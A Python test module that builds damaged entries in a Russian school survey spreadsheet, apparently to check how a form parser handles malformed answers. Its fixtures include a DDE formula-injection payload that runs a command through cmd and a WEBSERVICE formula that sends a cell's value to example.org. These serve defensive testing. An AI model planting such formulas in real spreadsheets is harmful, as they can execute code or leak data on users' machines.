"""What is typed into one cell of an answer: round its number, instead of it, or as another thing altogether."""

import datetime as dt
from functools import partial

from openpyxl.comments import Comment
from openpyxl.styles import Font

from tests.damage.sent import GENERATORS, Damage, SentBook, kind

# the number of the cell with something round it that leaves no doubt
ROUND_IT = {
    "own_unit": "{} чел.",
    "own_unit_in_full": "{} человек",
    "no_break_space_after": "{}\u00a0",
    "thin_space_before": "\u2009{}",
    "zero_width_space": "{}\u200b",
    "apostrophe_before": "'{}",
    "footnote_mark": "{}*",
    "final_point": "{}.",
    "number_as_text": "{}",
    "spaces_round_number": "  {} ",
    "line_break_after": "{}\n",
    "decimal_zero": "{},0",
    "plus_sign": "+{}",
    "leading_zeros_of_number": "00{}",
}
# something instead of the number
INSTEAD = {
    "share_typed": "37,9%",
    "share_with_space": "37,9 %",
    "fraction_typed": 0.379,
    "part_of_person": 10.5,
    "decimal_comma_text": "10,5",
    "thousands_by_comma": "1,234",
    "dash": "—",
    "hyphen": "-",
    "minus_sign": "−",
    "not_available": "н/д",
    "word_for_number": "сорок шесть",
    "approximately": "около 40",
    "range_of_numbers": "10-12",
    "two_numbers": "5 чел., 2 на дому",
    "sum_as_text": "20+26",
    "split_number": "4 6",
    "thousand_unit": "1,2 тыс.",
    "foreign_unit": "46 км",
    "name_in_number": "Петрова Анна Ивановна",
    "telephone_in_number": "8-900-123-45-67",
    "document_in_number": "66 01 123456",
    "too_many_digits": 4600000,
    "negative": -3,
    "negative_by_dash": "–3",
    "above_maximum": 5001,
    "arabic_digits": "٤٦",
    "raised_digit": "46²",
    "roman_number": "XIV",
    "letter_o_in_number": "4О",
    "exponent": "1e3",
    "question_mark": "?",
    "see_note": "см. примечание",
    "typed_error": "#ЗНАЧ!",
    "formula_that_runs": "@SUM(1+1)*cmd|' /C calc'!A0",
    "link_in_number": "http://example.org/46",
    "xml_in_number": "<b>46</b>",
    "logical_value": True,
    "date_in_number": dt.datetime(2018, 2, 1),  # noqa: DTZ001 - a spreadsheet's date has no zone
    "not_applicable_pupils": "х",
}
DOUBTED = (
    "number > 0 and variable in ('wards', 'disabled_children', 'pupils_disabilities', 'transported_pupils')"
)


def _round_it(text: str, sent: SentBook) -> Damage:
    answer = sent.answer("number > 0 and kind == 'count' and unit == 'чел.'")
    sent.type(answer, text.format(round(answer.number)))
    return Damage(answer.sheet, answer.cell)


def _instead(value: object, sent: SentBook) -> Damage:
    answer = sent.answer(DOUBTED)
    sent.type(answer, value)
    return Damage(answer.sheet, answer.cell, touched={answer.key})


GENERATORS |= {name: partial(_round_it, text) for name, text in ROUND_IT.items()}
GENERATORS |= {name: partial(_instead, value) for name, value in INSTEAD.items()}


def _reads(sent: SentBook, condition: str, typed: object, number: float) -> Damage:
    """Something else than before is typed, and read as this number."""
    answer = sent.answer(condition)
    sent.type(answer, typed)
    return Damage(answer.sheet, answer.cell, reads={answer.key: number})


@kind
def grouped_thousands(sent: SentBook) -> Damage:
    return _reads(sent, "variable == 'parents_higher_education'", "1 234", 1234)


@kind
def thin_space_thousands(sent: SentBook) -> Damage:
    return _reads(sent, "variable == 'parents_higher_education'", "1\u202f234", 1234)


@kind
def none_in_words(sent: SentBook) -> Damage:
    return _reads(sent, DOUBTED, "нет", 0)


@kind
def none_in_capitals(sent: SentBook) -> Damage:
    return _reads(sent, DOUBTED, " НЕТ ", 0)


@kind
def none_in_latin_letters(sent: SentBook) -> Damage:
    return _reads(sent, DOUBTED, "нeт", 0)


@kind
def none_with_point(sent: SentBook) -> Damage:
    return _reads(sent, DOUBTED, "нет.", 0)


@kind
def yes_in_latin_letters(sent: SentBook) -> Damage:
    return _reads(sent, "variable == 'small_school'", "дa", 1)


@kind
def yes_in_capitals(sent: SentBook) -> Damage:
    return _reads(sent, "variable == 'small_school'", "ДА", 1)


@kind
def yes_as_one(sent: SentBook) -> Damage:
    return _reads(sent, "variable == 'regular_transport'", 1, 1)


@kind
def distance_with_point(sent: SentBook) -> Damage:
    return _reads(sent, "variable == 'distance_to_centre'", "12.5", 12.5)


@kind
def distance_with_unit(sent: SentBook) -> Damage:
    return _reads(sent, "variable == 'distance_to_centre'", "12,5 км", 12.5)


@kind
def blanked(sent: SentBook) -> Damage:
    answer = sent.answer(DOUBTED)
    sent.type(answer, None)
    return Damage(answer.sheet, answer.cell, reads={answer.key: "blank"})


@kind
def not_applicable_grade(sent: SentBook) -> Damage:
    answer = sent.answer("variable in ('honours_certificates_9', 'medals_regional')")
    sent.type(answer, sent.dice.choice("xх"))
    return Damage(answer.sheet, answer.cell, reads={answer.key: "not_applicable"})


def _in_doubt(sent: SentBook, condition: str, typed: object) -> Damage:
    answer = sent.answer(condition)
    sent.type(answer, typed)
    return Damage(answer.sheet, answer.cell, touched={answer.key})


@kind
def distance_in_metres(sent: SentBook) -> Damage:
    return _in_doubt(sent, "variable == 'distance_to_centre'", "64000 м")


@kind
def another_yes(sent: SentBook) -> Damage:
    return _in_doubt(sent, "variable == 'regular_transport'", "иногда")


@kind
def number_for_yes(sent: SentBook) -> Damage:
    return _in_doubt(sent, "variable == 'small_school'", 7)


@kind
def share_by_format(sent: SentBook) -> Damage:
    answer = sent.answer(DOUBTED)
    sent.type(answer, 0.379)
    sent.book[answer.sheet][answer.cell].number_format = sent.dice.choice(["0%", "0.0%", "0.00 %"])
    return Damage(answer.sheet, answer.cell, touched={answer.key})


@kind
def distance_by_share_format(sent: SentBook) -> Damage:
    answer = sent.answer("variable == 'distance_to_centre'")
    sent.type(answer, 0.12)
    sent.book[answer.sheet][answer.cell].number_format = "0%"
    return Damage(answer.sheet, answer.cell, touched={answer.key})


@kind
def nothing_by_share_format(sent: SentBook) -> Damage:
    answer = sent.answer(DOUBTED)
    sent.type(answer, 0)
    sent.book[answer.sheet][answer.cell].number_format = "0%"
    return Damage(answer.sheet, answer.cell, reads={answer.key: 0})


@kind
def formula_never_computed(sent: SentBook) -> Damage:
    return _in_doubt(sent, DOUBTED, "=20+26")


@kind
def formula_on_the_net(sent: SentBook) -> Damage:
    return _in_doubt(sent, DOUBTED, '=WEBSERVICE("http://example.org/"&B8)')


@kind
def formula_of_another_file(sent: SentBook) -> Damage:
    return _in_doubt(sent, DOUBTED, "=[1]Лист1!A1")


@kind
def formula_computed(sent: SentBook) -> Damage:
    """A formula with the value that a spreadsheet program computed: what nearly every sum in a form is."""
    answer = sent.answer("number > 0 and kind == 'count'")
    sent.type(answer, f"={round(answer.number)}+0")
    sent.write()
    kept = b"</f><v>%d</v>" % round(answer.number)
    sent.rewrite(lambda name, content: content.replace(b"</f><v />", kept).replace(b"</f><v></v>", kept))
    return Damage(answer.sheet, answer.cell)


@kind
def error_of_formula(sent: SentBook) -> Damage:
    answer = sent.answer(DOUBTED)
    cell = sent.book[answer.sheet][answer.cell]
    cell.value, cell.data_type = sent.dice.choice(["#REF!", "#DIV/0!", "#N/A", "#VALUE!"]), "e"
    return Damage(answer.sheet, answer.cell, touched={answer.key})


@kind
def comment_with_name(sent: SentBook) -> Damage:
    answer = sent.answer()
    sent.book[answer.sheet][answer.cell].comment = Comment(
        "Уточнить у Петровой, 8-900-1234567", "Петрова А.И."
    )
    return Damage(answer.sheet, answer.cell)


@kind
def struck_through(sent: SentBook) -> Damage:
    answer = sent.answer()
    sent.book[answer.sheet][answer.cell].font = Font(strike=True, color="FFFFFF")
    return Damage(answer.sheet, answer.cell)


@kind
def answers_merged(sent: SentBook) -> Damage:
    """One number over two schools: whose it is nobody knows."""
    answer = sent.answer(f"{DOUBTED} and not is_last")
    below = f"{answer.column}{answer.row + 1}"
    sent.book[answer.sheet].merge_cells(f"{answer.cell}:{below}")
    other = sent.good[(sent.good["sheet"] == answer.sheet) & (sent.good["cell"] == below)].iloc[0]
    return Damage(
        answer.sheet, answer.cell, touched={answer.key, (answer.part, other["entity"], other["variable"])}
    )


@kind
def answers_merged_across(sent: SentBook) -> Damage:
    """One number over two questions."""
    answer = sent.answer("variable == 'wards'")
    column = chr(ord(answer.column) + 1)
    sent.book[answer.sheet].merge_cells(f"{answer.cell}:{column}{answer.row}")
    return Damage(
        answer.sheet, answer.cell, touched={answer.key, (answer.part, answer.entity, "transported_pupils")}
    )


@kind
def part_above_whole(sent: SentBook) -> Damage:
    answer = sent.answer("variable == 'families_low_income'")
    sent.type(answer, 4999)
    return Damage(answer.sheet, answer.cell, touched={answer.key, (answer.part, answer.entity, "families")})


@kind
def grades_not_the_sum(sent: SentBook) -> Damage:
    answer = sent.answer("variable == 'pupils_5_9' and number > 0")
    sent.type(answer, answer.number - 1)
    sums = {
        (answer.part, answer.entity, name) for name in ("pupils", "pupils_1_4", "pupils_5_9", "pupils_10_11")
    }
    return Damage(answer.sheet, answer.cell, touched=sums)


@kind
def answers_of_two_columns_swapped(sent: SentBook) -> Damage:
    answer = sent.answer("variable == 'families_single_parent' and number > 0")
    whole = sent.good.query(
        "variable == 'families' and entity == @answer.entity", local_dict={"answer": answer}
    )
    # the number of all families under the poor ones, and the other way round
    poor = sent.good.query(
        "variable == 'families_low_income' and entity == @answer.entity", local_dict={"answer": answer}
    )
    sheet, (one,), (other,) = sent.book[answer.sheet], whole["cell"], poor["cell"]
    sheet[one].value, sheet[other].value = sheet[other].value, sheet[one].value
    named = ("families", "families_low_income")
    return Damage(answer.sheet, other, touched={(answer.part, answer.entity, name) for name in named})
